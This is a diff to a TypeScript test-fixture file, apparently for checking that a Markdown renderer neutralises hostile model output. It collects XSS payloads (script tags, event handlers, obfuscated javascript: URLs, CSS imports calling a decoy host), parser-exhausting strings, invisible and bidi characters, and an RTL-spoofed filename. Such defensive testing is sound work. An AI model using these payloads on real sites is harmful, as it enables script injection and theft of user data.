@@ -1,4 +1,4 @@
-/** What a hostile model says, as Markdown. Each would tell `decoy` that it worked, or count up `window.hostileRan`. */
+/** Hostile answers, as Markdown. A successful attack sends a request to `decoy`, or sets `window.hostileRan`. */
 export function hostileTexts(decoy: string): readonly string[] {
   const run = `window.hostileRan=1;alert(1);fetch('${decoy}/fetch')`
   return [
@@ -8,10 +8,13 @@ export function hostileTexts(decoy: string): readonly string[] {
     `<img src="${decoy}/image.png">`,
     `<svg/onload="${run}"><script>${run}</script></svg>`,
     `<iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
-    `<meta http-equiv="refresh" content="0;url=${decoy}/refresh"><base href="${decoy}/"><link rel="stylesheet" href="${decoy}/style.css">`,
+    `<meta http-equiv="refresh" content="0;url=${decoy}/refresh"><base href="${decoy}/">` +
+      `<link rel="stylesheet" href="${decoy}/style.css">`,
     `<style>@import url(${decoy}/import.css); * { background: url(${decoy}/background.png) }</style>`,
-    `<form action="${decoy}/form"><input autofocus onfocus="${run}"><button formaction="javascript:${run}">Go</button></form>`,
-    `<video src="${decoy}/video" onerror="${run}" autoplay></video><object data="${decoy}/object"></object><embed src="${decoy}/embed">`,
+    `<form action="${decoy}/form"><input autofocus onfocus="${run}">` +
+      `<button formaction="javascript:${run}">Go</button></form>`,
+    `<video src="${decoy}/video" onerror="${run}" autoplay></video><object data="${decoy}/object"></object>` +
+      `<embed src="${decoy}/embed">`,
     `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
     `<a href="javascript:${run}">html link</a> <details open ontoggle="${run}">x</details>`,
     `--><!--[if]><script>${run}</script><![endif]--> <![CDATA[<script>${run}</script>]]> <?xml ${run}?>`,
@@ -22,22 +25,22 @@ export function hostileTexts(decoy: string): readonly string[] {
       `![picture](${address})`,
     ]),
     `[by label][evil] [evil]\n\n[evil]: javascript:${run} "title"`,
-    `![picture](${decoy}/markdown.png) [![picture](${decoy}/nested.png)](${decoy}/around) ![by label][remote]\n\n[remote]: ${decoy}/label.png`,
+    `![picture](${decoy}/markdown.png) [![picture](${decoy}/nested.png)](${decoy}/around) ` +
+      `![by label][remote]\n\n[remote]: ${decoy}/label.png`,
     `![picture](//${new URL(decoy).host}/scheme-relative.png) ![picture](/assets/../relative.png)`,
     `[title](https://svc.example/ "\\" onmouseover=\\"${run}") [attribute](https://svc.example/" onclick="${run})`,
-    `| <img src=x onerror="${run}"> | [link](javascript:${run}) |\n|---|:-:|\n| <script>${run}</script> | ![picture](${decoy}/table.png) |`,
+    `| <img src=x onerror="${run}"> | [link](javascript:${run}) |\n|---|:-:|\n` +
+      `| <script>${run}</script> | ![picture](${decoy}/table.png) |`,
     `- <script>${run}</script>\n  > <img src="${decoy}/quote.png">\n\n# <svg onload="${run}">`,
     `\`\`\`html\n<script>${run}</script><img src="${decoy}/code.png">\n\`\`\``,
     `\`\`\`"><script>${run}</script> ../../x\ncode\n\`\`\``,
-    `\`<img src="${decoy}/span.png">\` **<b onclick="${run}">bold</b>** ~~<s>~~ &lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
+    `\`<img src="${decoy}/span.png">\` **<b onclick="${run}">bold</b>** ~~<s>~~ ` +
+      `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
     `$\\href{javascript:${run}}{x}$ {{constructor.constructor('${run}')()}} \${${run}} %0Aset-cookie:x=1`,
   ]
 }
 
-/**
- * How one writes `javascript:` so that a browser understands it and a filter may not; and others that can run
- * something.
- */
+/** Spellings of `javascript:` that browsers understand and filters may miss, and other schemes that run scripts. */
 function javascriptAddresses(run: string): readonly string[] {
   return [
     `javascript:${run}`,
@@ -70,7 +73,7 @@ function javascriptAddresses(run: string): readonly string[] {
   ]
 }
 
-/** Texts that cost a reader of Markdown much. */
+/** Texts that are expensive for parsers of Markdown. */
 export const heavyTexts: readonly (readonly [string, string])[] = [
   ['a line of a megabyte', 'word '.repeat(200_000)],
   ['a word of a megabyte', 'x'.repeat(1_000_000)],
@@ -82,14 +85,12 @@ export const heavyTexts: readonly (readonly [string, string])[] = [
   ['line breaks alone', '\n'.repeat(100_000)],
 ]
 
-/**
- * What is not seen, but changes what is: marks of direction that nobody ends, characters without width, null, halves of
- * characters.
- */
+/** Invisible characters that change others: open direction marks, characters without width, null, lone surrogates. */
 export const unseen =
-  'start \u202Egnihtyreve\u202D \u2066isolate \u200Bzero\u200B\u2060\uFEFF \u0000null \u0007bell \u001B[31mred \uD800 half \uDFFF \uFFFE end'
+  'start \u202Egnihtyreve\u202D \u2066isolate \u200Bzero\u200B\u2060\uFEFF \u0000null \u0007bell ' +
+  '\u001B[31mred \uD800 half \uDFFF \uFFFE end'
 
-/** A name with markup, one of which half reads from right to left, and one without a place to break it. */
+/** A name with markup, one that is partly right-to-left, and one without a line break opportunity. */
 export function hostileNames(decoy: string): readonly string[] {
   return [`<img src=x onerror="window.hostileRan=1;fetch('${decoy}/name')">`, 'safe\u202Eexe.gnp', 'long'.repeat(60)]
 }
